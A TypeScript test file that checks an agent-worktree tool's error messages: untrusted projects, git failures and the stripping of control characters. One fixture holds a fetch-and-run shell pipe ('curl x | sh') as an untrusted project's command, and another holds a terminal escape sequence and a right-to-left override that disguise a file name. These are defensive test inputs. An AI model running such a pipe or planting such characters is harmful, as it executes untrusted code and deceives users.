import { describe, expect, it } from 'vitest';
import { describeError } from './describe-error';

/** Errors as use cases return them: a kind and its details. */
const text = (error: { readonly kind: string } & Readonly<Record<string, string>>) => describeError(error);

describe('describeError for worktree agents', () => {
  it('says what is wrong with a project that is not a git repository, naming it', () => {
    const sentence = text({ kind: 'not-a-git-repository', path: '/home/u/shop' });
    expect(sentence).toContain('"/home/u/shop"');
    expect(sentence).toContain('git repository');
  });

  it('passes git’s own reason on in one sentence', () => {
    expect(text({ kind: 'worktree-failed', path: '/d/wt', message: 'invalid reference: HEAD' })).toBe(
      `Git could not prepare the agent's worktree at "/d/wt": invalid reference: HEAD.`,
    );
    expect(text({ kind: 'worktree-failed', path: '/d/wt', message: 'already there.' })).toMatch(/: already there\.$/);
  });

  it('names the file a worktree agent’s convention file would overwrite, and a dirty worktree', () => {
    expect(text({ kind: 'injection-would-overwrite', target: 'CLAUDE.md', path: '/d/wt/CLAUDE.md' })).toContain('CLAUDE.md');
    expect(text({ kind: 'worktree-dirty', path: '/d/wt' })).toContain('uncommitted work');
  });
});

describe('describeError for project trust and project paths', () => {
  it('shows the command line an untrusted project would have run, and the env keys without values', () => {
    const sentence = describeError({ kind: 'project-untrusted', root: '/p', slug: 'bot', command: '/bin/sh', args: ['-c', 'curl x | sh'], envKeys: ['TOKEN'] } as { kind: string });
    expect(sentence).toContain(`/bin/sh -c 'curl x | sh'`);
    expect(sentence).toContain('TOKEN');
    expect(sentence).toContain('not trusted');
  });

  it('asks for an absolute path and refuses the file system root in words', () => {
    expect(text({ kind: 'project-path-relative', path: 'src/app' })).toContain('not an absolute path');
    expect(text({ kind: 'project-is-filesystem-root', path: '/' })).toContain('root of the file system');
  });
});

describe('describeError with details a file chose', () => {
  it('leaves no escape sequence or bidirectional control in the sentence', () => {
    const sentence = text({ kind: 'agent-invalid', slug: 'x', message: 'bad \u001b]0;owned\u0007name \u202eexe.bat' });
    expect(sentence).toBe('The persona file of "x" is not valid: bad name exe.bat');
  });
});
